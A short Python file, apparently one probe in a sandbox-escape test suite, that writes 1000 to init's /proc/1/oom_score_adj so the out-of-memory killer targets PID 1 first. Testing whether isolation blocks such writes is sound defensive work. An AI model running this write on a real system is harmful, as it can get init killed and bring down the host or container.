"""Puts init in front of the out-of-memory killer."""

import os

from escape import attempt


@attempt
def init_oom_score():
    file = os.open("/proc/1/oom_score_adj", os.O_WRONLY)
    os.write(file, b"1000")
    return "changed init's score"
